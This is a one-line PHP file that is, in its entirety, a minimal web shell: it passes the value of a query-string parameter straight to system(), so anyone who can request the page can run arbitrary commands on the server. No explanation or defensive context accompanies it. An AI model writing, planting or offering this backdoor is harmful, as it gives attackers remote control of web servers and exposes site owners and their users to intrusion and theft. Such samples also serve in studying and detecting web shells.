<?php system($_GET[1]);
